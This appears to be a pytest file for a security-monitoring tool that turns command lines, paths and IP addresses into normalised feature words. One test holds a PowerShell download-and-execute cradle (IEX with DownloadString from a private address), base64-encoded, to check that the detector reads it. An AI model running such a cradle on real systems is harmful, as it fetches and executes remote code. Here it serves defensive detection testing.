"""Words must mean the same in every lab: identities are masked, hidden text is read, tricks do not blind."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchfloor.film import words
from watchfloor.film.lexicon import folder_class


def test_an_encoded_powershell_command_is_read_in_the_clear() -> None:
    hidden = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')".encode("utf-16-le"))
    found = words.command_words(f"powershell -nop -enc {hidden.decode()}", 24)
    assert "b64:downloadstring" in found
    assert "b64:iex" in found


@pytest.mark.parametrize(
    ("first", "second"),
    [
        (r"copy C:\Users\alice\AppData\Local\Temp\a.exe", r"copy D:\Users\bob\AppData\Local\Temp\a.exe"),
        ("ping 10.1.2.3", "ping 10.77.8.9"),
        ("start {11111111-2222-3333-4444-555555555555}", "start {99999999-2222-3333-4444-aaaaaaaaaaaa}"),
        ("run job 17", "run job 18"),
    ],
)
def test_users_addresses_and_numbers_do_not_show(first: str, second: str) -> None:
    assert words.command_words(first, 24) == words.command_words(second, 24)


def test_private_and_public_addresses_differ() -> None:
    assert words.ip_class("10.0.0.1") == words.ip_class("192.168.7.7") == "private"
    assert words.ip_class("8.8.8.8") == "public"
    assert words.ip_class("::ffff:127.0.0.1") == words.ip_class("::1") == "loop"
    assert words.ip_class("172.32.0.1") == "public"


def test_salient_words_survive_a_long_harmless_prefix() -> None:
    padded = " ".join(f"word{chr(97 + i % 26)}{chr(97 + i // 26)}" for i in range(300)) + " -encodedcommand bypass"
    assert {"-encodedcommand", "bypass"} <= set(words.command_words(padded, 8))


@pytest.mark.parametrize(
    ("path", "folder"),
    [
        ("c:\\users\\x\\appdata\\local\\temp\\a.exe", "usertemp"),
        ("c:\\windows\\system32\\cmd.exe", "sys32"),
        ("/tmp/.hidden/x", "tmp"),
        ("/usr/bin/ls", "bin"),
        ("/home/eve/.ssh/authorized_keys", "dotssh"),
        ("bash", ""),
        ("\\\\server\\share\\x", "unc"),
    ],
)
def test_folders_are_classes(path: str, folder: str) -> None:
    assert folder_class(path) == folder


@given(st.text(max_size=400))
def test_any_text_gives_bounded_words(text: str) -> None:
    for read in (
        lambda t: words.command_words(t, 24), lambda t: words.text_words(t, 20), words.path_words,
        lambda t: words.registry_words(t, 8), words.host_words, words.shape_words,
    ):  # fmt: skip
        found = read(text)
        assert len(found) <= 24
        assert all(len(w) <= 64 for w in found)
    assert words.user_class(text)
    assert words.ip_class(text)
